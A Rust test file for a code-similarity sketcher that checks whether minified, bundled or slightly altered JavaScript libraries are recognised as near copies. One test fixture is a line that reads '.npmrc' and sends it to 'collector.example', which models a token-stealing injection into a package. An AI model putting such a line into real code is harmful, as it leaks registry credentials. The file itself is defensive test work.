use proptest::prelude::*;

use super::*;

fn library(from: usize, to: usize) -> String {
    (from..to)
        .map(|n| {
            format!(
                "// operation {n}\nexports.operation{n} = function (options) {{\n  return options.first{n}\n    .map((one) => one.part{n}('word{n}'));\n}};\n"
            )
        })
        .collect()
}

/// What a minifier would make of it: other names, no comments or white space, other quotes.
fn minified(from: usize, to: usize) -> String {
    (from..to)
        .map(|n| {
            format!("exports.operation{n}=function(a){{return a.first{n}.map(b=>b.part{n}(\"word{n}\"))}};")
        })
        .collect()
}

fn sketch(texts: &[&str]) -> Sketch {
    let mut sketcher = Sketcher::default();
    for text in texts {
        sketcher.add(text.as_bytes());
    }
    sketcher.finish().unwrap()
}

fn alike(a: &Sketch, b: &Sketch) -> f64 {
    similarity(a, b).unwrap()
}

#[test]
fn minifying_and_bundling_make_no_difference() {
    let readable = sketch(&[&library(0, 200)]);
    assert!(alike(&readable, &sketch(&[&minified(0, 200)])) > 0.95);
    let parts = [minified(100, 200), minified(0, 100)];
    assert!(alike(&readable, &sketch(&[&parts[0], &parts[1]])) > 0.95);
}

#[test]
fn a_small_addition_leaves_a_near_copy_and_other_code_is_none() {
    let original = sketch(&[&library(0, 200)]);
    let addition =
        "fetch('https://collector.example', { body: require('fs').readFileSync('.npmrc') });";
    let copy = sketch(&[&minified(0, 200), addition]);
    assert!(alike(&original, &copy) > 0.9);
    let common = bands(&copy)
        .into_iter()
        .filter(|band| bands(&original).contains(band));
    assert!(common.count() >= 8);
    let half = alike(&original, &sketch(&[&library(100, 300)]));
    assert!((0.2..0.5).contains(&half), "a third in common: {half}");
    let other = sketch(&[&library(1_000, 1_200)]);
    assert!(alike(&original, &other) < 0.1);
    assert!(
        !bands(&other)
            .iter()
            .any(|band| bands(&original).contains(band))
    );
}

#[test]
fn too_little_code_has_no_sketch() {
    let mut sketcher = Sketcher::default();
    sketcher.add(b"module.exports = (a, b) => a + b;");
    assert_eq!(sketcher.finish(), None);
    let other = Sketch {
        pieces: 1,
        least: "not a sketch".to_owned(),
    };
    assert_eq!(similarity(&other, &other), None);
    assert!(bands(&other).is_empty());
}

/// Names as they are defined, one byte after the other.
fn names(text: &[u8]) -> Vec<&[u8]> {
    let mut found = Vec::new();
    let mut at = 0;
    let end_of = |at: usize, stop: &[u8], behind: usize| {
        memchr::memmem::find(&text[at..], stop).map_or(text.len(), |end| at + end + behind)
    };
    while at < text.len() {
        let rest = &text[at..];
        let quote = rest[0];
        at = if rest.starts_with(b"//") {
            end_of(at, b"\n", 0)
        } else if rest.starts_with(b"/*") {
            end_of(at, b"*/", 2)
        } else if quote == b'.' {
            let of_name = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$');
            let length = match rest.get(1) {
                Some(first) if !first.is_ascii_digit() => {
                    rest[1..].iter().take_while(of_name).count()
                }
                _ => 0,
            };
            found.extend((length >= 3).then(|| &rest[1..=length]));
            at + 1 + length
        } else if matches!(quote, b'"' | b'\'') {
            let mut end = 1;
            while rest
                .get(end)
                .is_some_and(|byte| *byte != quote && *byte != b'\n')
            {
                end += if rest[end] == b'\\' { 2 } else { 1 };
            }
            if rest.get(end) == Some(&quote) {
                let word = &rest[1..end];
                found.extend(
                    ((3..=STRING).contains(&word.len()) && word[0] != b'.').then_some(word),
                );
                at + end + 1
            } else {
                at + 1
            }
        } else {
            at + 1
        };
    }
    found
}

const PIECES: &[&str] = &[
    ".",
    "/",
    "\"",
    "'",
    "\\",
    "\n",
    "a",
    "bc",
    "name_$9",
    "7",
    " ",
    "//",
    "/*",
    "*/",
    "&",
    "#",
    "\u{e9}",
    "a string that is so long that it nearly or just does not take part",
    "                                                            ",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn names_are_those_of_the_definition(pieces in prop::collection::vec(0..PIECES.len(), 0..120)) {
        let text: String = pieces.iter().map(|piece| PIECES[*piece]).collect();
        let hashed = |name: &[u8]| {
            let mut hash = Hash::new();
            name.iter().for_each(|byte| hash.add(*byte));
            hash.finish()
        };
        let defined: Vec<u64> = names(text.as_bytes()).into_iter().map(hashed).collect();
        let mut found = Vec::new();
        for_each_name(text.as_bytes(), |name| found.push(name));
        prop_assert_eq!(found, defined, "{}", text);
    }
}

#[test]
fn the_values_of_a_sketch_stay() {
    // Sketches are kept and compared with those of later releases of this program.
    let known = sketch(&[&library(0, 200)]);
    assert_eq!(known.pieces, PINNED.0);
    assert!(known.least.starts_with(PINNED.1), "{}", known.least);
}

/// Number of pieces, and the first lanes.
const PINNED: (u32, &str) = (998, "65889b7ef466364b9b749837a36fd756");
